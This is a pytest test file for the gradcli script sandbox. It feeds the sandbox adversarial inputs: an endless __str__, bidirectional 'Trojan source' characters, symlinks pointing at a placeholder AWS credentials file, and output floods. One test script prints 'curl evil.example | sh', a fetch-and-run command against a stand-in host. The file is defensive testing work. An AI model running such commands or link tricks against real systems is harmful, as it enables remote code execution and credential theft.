"""Red team, sixth round (docs/robustness.md, "The sandbox"): a script's own code that gradcli ran
outside the script's limits (an uncaught error's ``__str__``), source text that makes a diagnostic show
another line or another order than the script holds (line separators, bidirectional controls), and
what `gradcli test` reads and holds (links out of the tested tree, huge expectation files, a flood of
output). Each attack ends in a clean located error of the script (exit 1), in a report line, or in what
Python with PyTorch prints; never a traceback, an internal error, a lost limit or an unbounded parent."""
from __future__ import annotations

import os
import subprocess
import sys
from functools import partial
from pathlib import Path

import pytest
from case_support import refused_script, run_script

from gradcli.render import diagnostics

ROOT = Path(__file__).resolve().parent.parent
HEAD = "import torch\nimport torch.nn as nn\n"

run = partial(run_script, HEAD, "round6.grad")
refused = partial(refused_script, HEAD, "round6.grad")


def gradcli(*args, input=None, cwd=ROOT, env=None):
    full = {k: v for k, v in os.environ.items() if k not in ("FORCE_COLOR", "CLICOLOR_FORCE")}
    full.update(NO_COLOR="1", PYTHONPATH=os.pathsep.join([str(ROOT), full.get("PYTHONPATH", "")]), **(env or {}))
    return subprocess.run([sys.executable, "-m", "gradcli", *args], capture_output=True, cwd=cwd, env=full,
                          input=input, timeout=240)


# ---------------------------------------------------------------- the script's code after its run

STR_LOOPS = """class Forever:
    def __str__(self):
        while True:
            pass
"""


@pytest.mark.parametrize("raising", ["raise ValueError(Forever())",
                                     "class Bad(ValueError):\n    pass\nraise Bad(Forever())"])
def test_an_uncaught_errors_str_that_never_ends_is_the_runs_step_limit(raising):
    # the check for NumPy's 64-dims error read str(exc) of every uncaught ValueError: the script's
    # __str__ ran there, outside the runner's handling, and its step limit was an internal error
    result = refused(STR_LOOPS + raising, "RuntimeError", "step limit of 100000 exceeded", max_steps=100_000)
    assert result.error.line == HEAD.count("\n") + 3  # the __str__'s loop


def test_an_uncaught_errors_str_runs_once_and_its_text_is_the_message():
    src = ("class Loud:\n    def __str__(self):\n        print('str ran')\n"
           "        return 'maximum supported dimension for an ndarray is 64, found 65'\n"
           "raise ValueError(Loud())\n")
    result = refused(src, "ValueError", "maximum supported dimension for an ndarray")
    assert result.stdout == "str ran\n"  # the message is the script's error, never gradcli's dims limit
    assert "GradScript limit" not in result.error.message


# ---------------------------------------------------------------- what a diagnostic shows

@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85", "\x0c", "\x1c", "\x1d", "\x1e", "\x0b"])
def test_the_source_line_under_an_error_is_the_line_that_failed(tmp_path, separator):
    # str.splitlines() splits at U+2028, NEL, form feed, ...: a comment holding one shifted the
    # excerpt, and the error showed an innocent line of the script instead of the one that failed
    script = tmp_path / "shifted.grad"
    script.write_text(f"x = 1  # a{separator}b\ny = 2\nz = undefined_name\n", encoding="utf-8")
    result = gradcli("run", str(script))
    assert result.returncode == 1, result.stderr
    err = result.stderr.decode()
    assert "3 | z = undefined_name" in err, err
    assert "y = 2" not in err
    lines = diagnostics.source_lines("a\u2028b\nc\r\nd\re\n")
    assert lines == ["a\u2028b", "c", "d", "e"]


BIDI = "\u202e\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\u200e\u200f\u061c\u2028\u2029"


def test_bidirectional_controls_are_shown_escaped_in_diagnostics(tmp_path):
    # "Trojan source": U+202E in a message or a source line reorders what the reader sees
    assert diagnostics.visible("abc\u202edef") == "abc\\u202edef"
    assert diagnostics.visible(BIDI) == "".join(f"\\u{ord(c):04x}" if ord(c) > 0xff else f"\\x{ord(c):02x}"
                                                for c in BIDI)
    assert diagnostics.visible("é ∇ 日本 \u00a0 \u200d") == "é ∇ 日本 \u00a0 \u200d"  # ZWJ joins emoji: kept
    script = tmp_path / "bidi.grad"
    script.write_text('s = "abc\u202edef"\nprint(s)\nx = 1 + "a"  # \u2066 hidden\n', encoding="utf-8")
    result = gradcli("run", str(script))
    assert result.returncode == 1
    assert result.stdout.decode() == "abc\u202edef\n"  # what the script prints: as Python prints it
    err = result.stderr.decode()
    assert "# \\u2066 hidden" in err and not any(c in err for c in BIDI), err
    assert "  3 | x = 1 + \"a\"" in err


# ---------------------------------------------------------------- what `gradcli test` reads, writes and holds

def _repo(tmp_path):
    folder = tmp_path / "repo"
    folder.mkdir()
    secret = tmp_path / "outside" / "credentials"
    secret.parent.mkdir()
    secret.write_text("[default]\naws_secret_access_key = S6-SECRET-hunter2\n")
    return folder, secret


@pytest.mark.parametrize("link", ["hw.out", "hw.err", "hw.cpu", "hw.grad", "sub/hw.grad"])
def test_gradcli_test_reads_nothing_through_a_link_out_of_the_tree_it_tests(tmp_path, link):
    # `hw.out -> ../../.aws/credentials` in a student's repository: the expected text went into the diff
    # of the public CI log; `hw.grad -> ...credentials` showed the key as a NameError's source line
    folder, secret = _repo(tmp_path)
    script = folder / link if link.endswith(".grad") else folder / "hw.grad"
    script.parent.mkdir(exist_ok=True)
    if link.endswith(".grad"):
        script.symlink_to(secret)
        script.with_suffix(".out").write_text("1\n")
    else:
        script.write_text("print(1)\n")
        (folder / link).symlink_to(os.path.relpath(secret, folder))
    for extra in ([], ["--json"], ["--format", "github"]):
        proc = gradcli("test", *extra, str(folder))
        shown = (proc.stdout + proc.stderr).decode()
        assert "S6-SECRET" not in shown and "aws_secret" not in shown, shown
        assert proc.returncode == 1 and "outside the folder tested" in shown, (proc.returncode, shown)
    inside = folder / "shared.out"  # a link within the tree is followed
    if link == "hw.out":
        (folder / link).unlink()
        inside.write_text("1\n")
        (folder / link).symlink_to("shared.out")
        proc = gradcli("test", str(folder))
        assert proc.returncode == 0, proc.stdout


def test_gradcli_test_update_writes_no_file_through_a_link(tmp_path):
    # `hw.out -> ~/.bashrc`: `gradcli test --update` wrote what the script printed (its choice) there
    folder, secret = _repo(tmp_path)
    (folder / "hw.grad").write_text("print('curl evil.example | sh')\n")
    (folder / "hw.out").symlink_to(secret)
    before = secret.read_text()
    proc = gradcli("test", "--update", str(folder))
    assert secret.read_text() == before
    assert proc.returncode == 1 and "--update writes regular files only" in proc.stdout.decode(), proc.stdout
    (folder / "hw.out").unlink()
    (folder / "hw.err").symlink_to(secret)  # a script that ends well removes its .err: the link, not its target
    assert gradcli("test", "--update", str(folder)).returncode == 0
    assert secret.read_text() == before and not (folder / "hw.err").is_symlink()
    assert (folder / "hw.out").read_text() == "curl evil.example | sh\n"


def test_an_expectation_file_past_the_cap_is_a_problem_not_a_read(tmp_path, monkeypatch):
    from gradcli.testing import golden

    monkeypatch.setattr(golden, "MAX_EXPECTATION_BYTES", 1000)
    script = tmp_path / "hw.grad"
    script.write_text("print(1)\n")
    (tmp_path / "hw.out").write_text("1\n" * 600)
    expectation = golden.read_expectation(script)
    assert expectation.out is None and "hw.out is larger than" in expectation.problem
    (tmp_path / "hw.out").write_text("1\n" * 500)
    assert golden.read_expectation(script).out == b"1\n" * 500
    (tmp_path / "hw.cpu").write_text(" " * 70000)
    assert "larger than 65536 bytes" in golden.read_expectation(script).problem


def test_gradcli_test_holds_a_bounded_part_of_a_flood_of_output(tmp_path, monkeypatch):
    # without --json, `run` streams; `gradcli test` held every printed piece in the parent (which no
    # --max-memory caps): `while True: print(s)` in its 60 s grew it by gigabytes
    from gradcli.lang.runner import RunOptions
    from gradcli.testing import execute

    monkeypatch.setattr(execute, "MAX_TEST_OUTPUT", 10**6)
    script = tmp_path / "flood.grad"
    script.write_text("s = 'x' * 99999\nprint('start')\nwhile True:\n    print(s)\n")
    (finished,) = execute.run_scripts([(script, "flood.grad")], RunOptions(timeout=60, max_steps=10**9), jobs=1)
    actual = finished.actual
    assert finished.seconds < 30
    assert actual.error_type == "MemoryError" and actual.error_line == 4, actual
    assert actual.error_message == "the output exceeds the limit of 1,000,000 characters that gradcli test holds to compare"
    assert 900_000 < len(actual.stdout) <= 10**6 and actual.stdout.startswith("start\n")


def test_a_reports_diff_is_bounded_and_numbered_as_the_whole_texts():
    from gradcli.testing import golden

    want = "".join(f"{i}\n" for i in range(100_000)).encode()
    got = want.replace(b"\n50000\n", b"\n50000x\n").replace(b"\n70000\n", b"\n" + b"y" * 10**6 + b"\n")
    diff = golden.unified_diff(want, got, "a", "b")
    assert diff.splitlines()[2] == "@@ -49998,7 +49998,7 @@", diff[:200]
    assert "-50000\n+50000x\n" in diff and len(diff) < 20_000 and "yyy" not in diff  # line 70000: past the window
    short = golden.unified_diff(b"a\n" * 5000, b"b\n" * 4000, "a", "b")
    assert "\n-... (4,000 more lines not compared)\n" in short and short.endswith("\n+... (3,000 more lines not compared)\n")
    diff = golden.unified_diff(b"a\n", b"y" * 10**6 + b"\n", "a", "b")
    assert "+" + "y" * 1000 + "... (999,000 more characters)\n" in diff


# ---------------------------------------------------------------- PEP 263 coding declarations

CODINGS = [
    (b"# -*- coding: latin-1 -*-\n", b"caf\xe9"),
    (b"#!/usr/bin/env gradcli\n# vim: set fileencoding=LATIN_1 :\n", b"\xe9t\xe9"),
    (b"\n# coding=cp1252\n", b"caf\xe9\x80"),
    (b"# coding: euc-jp\n", b"\xa4\xa2"),
    (b"# coding: rot13\n", b"x"),          # not a text encoding
    (b"# coding: hex\n", b"x"),
    (b"# coding: no-such-codec\n", b"x"),
    (b"# coding: utf-16\n", b"x"),         # its declaration line is not the ASCII it reads as
    (b"# coding: ascii\n", b"caf\xe9"),    # bytes the codec refuses
    (b"\xef\xbb\xbf# coding: latin-1\n", b"x"),  # a BOM says UTF-8
    (b"x = 1\n# coding: latin-1\n", b"caf\xe9"),  # on the second line only after a comment: not a declaration
    (b"# coding: utf-8\n", "caf\u00e9".encode()),
]


@pytest.mark.parametrize("head, word", CODINGS)
def test_a_coding_declaration_is_honoured_as_python_honours_it(tmp_path, head, word):
    # a script saved in Latin-1 with its declaration was refused ("no encoding declared"), which
    # Python runs; what Python refuses, gradcli refuses with Python's words
    body = head + b"s = '" + word + b"'\nprint(len(s), ascii(s))\n"
    (tmp_path / "enc.py").write_bytes(body)
    (tmp_path / "enc.grad").write_bytes(body)
    python = subprocess.run([sys.executable, "enc.py"], capture_output=True, cwd=tmp_path, timeout=60)
    ours = gradcli("run", str(tmp_path / "enc.grad"))
    assert ours.stdout == python.stdout
    assert (ours.returncode == 0) == (python.returncode == 0), (ours.stderr, python.stderr)
    if python.returncode:
        want = python.stderr.decode().strip().splitlines()[-1]
        got = [ln for ln in ours.stderr.decode().splitlines() if ln.startswith("SyntaxError")]
        if "Non-UTF-8" not in want:  # that one names the file as Python was given it
            assert got == [want], (got, want)
        assert "Traceback" not in ours.stderr.decode()


# ---------------------------------------------------------------- itertools: what its classes build when made

@pytest.mark.parametrize("expr", [
    "itertools.combinations(range(3), 10 ** 10)",         # index arrays of r items, before any item
    "itertools.permutations([1, 2], r=10 ** 10)",
    "itertools.combinations_with_replacement('ab', 10 ** 9)",
    "itertools.product(range(2), repeat=10 ** 9)",          # the pools, repeated, in one C call
    "next(itertools.product([0, 1], repeat=10 ** 8))",      # each item a tuple that long
    "itertools.tee(iter([]), 10 ** 9)",                     # n iterators at once
])
def test_itertools_classes_check_the_sequence_limit_before_building(expr):
    # every item of an itertools iterator counts as a step; but product, combinations and permutations
    # copy their iterables (and allocate their indices) when made, in one C call no step counts
    refused(f"import itertools\nx = {expr}\n", "MemoryError", "exceeds the limit of 10000000 items")


def test_itertools_pools_from_iterators_count_their_items_as_steps():
    refused("import itertools\nx = itertools.combinations(iter(range(10 ** 9)), 2)\n", "RuntimeError",
            "step limit of 100000 exceeded", max_steps=100_000)
    result = run("import itertools\ng = (i * i for i in range(4))\nprint(list(itertools.combinations(g, 3)))\n"
                 "print(list(itertools.product('ab', iter([0, 1]))), list(itertools.permutations([1, 2, 3], r=2))[:3])\n"
                 "print(list(itertools.combinations_with_replacement('ab', r=2)), list(itertools.product(repeat=2)))\n")
    assert result.error is None, result.error
    assert result.stdout == ("[(0, 1, 4), (0, 1, 9), (0, 4, 9), (1, 4, 9)]\n"
                             "[('a', 0), ('a', 1), ('b', 0), ('b', 1)] [(1, 2), (1, 3), (2, 1)]\n"
                             "[('a', 'a'), ('a', 'b'), ('b', 'b')] [()]\n")


@pytest.mark.parametrize("expr, size", [
    ("torch.combinations(torch.arange(100000.), r=2)", 10**10),  # NumPy's 'Unable to allocate 74.5 GiB'
    ("torch.combinations(torch.arange(1000.), r=5, with_replacement=True)", 10**15),
    ("torch.combinations(torch.arange(20000.), r=2)", 4 * 10**8),  # would fit NumPy: past --max-elements anyway
    ("torch.combinations(torch.arange(1.), r=10 ** 9)", 10**9),     # a billion grids of one element
])
def test_combinations_checks_its_grids_against_the_element_limit(expr, size):
    # torch.combinations (new this session) builds r meshgrids of n**r elements, as ATen does, with
    # no check of --max-elements before NumPy was asked for them
    refused(f"y = {expr}\n", "RuntimeError", f"tensor of {size} elements exceeds the limit")


def test_combinations_within_the_limit_prints_what_torch_prints():
    result = run("print(torch.combinations(torch.arange(4.), r=3))\n"
                 "print(torch.combinations(torch.tensor([1, 2]), with_replacement=True).shape)\n")
    assert result.error is None, result.error
    assert result.stdout == ("tensor([[0., 1., 2.],\n        [0., 1., 3.],\n        [0., 2., 3.],\n"
                             "        [1., 2., 3.]])\ntorch.Size([3, 2])\n")


# ---------------------------------------------------------------- the parser's time on a long f-string

def test_an_f_strings_positions_come_from_its_newlines_found_once():
    # each field's position counted the newlines of the whole token again: a time quadratic in the
    # f-string's length (100,000 `{1}` fields, 300 KB of the 2 MB a script may have, parsed for minutes);
    # the newline offsets are found once per token (not a timed test: the work is counted)
    from gradcli.lang import literals
    from gradcli.lang.parser import parse

    literals._newlines.cache_clear()
    source = "x = f'''\n" + "{1}" * 2000 + "\n{y!r:>{3}}'''\n"
    module = parse(source, "f.grad")
    info = literals._newlines.cache_info()
    assert info.misses <= 3 and info.hits >= 2000, info
    values = module.body[0].value.values
    assert len(values) == 2000 + 3 and values[-1].value.line == 3  # "\n", the fields, "\n", {y...} on line 3
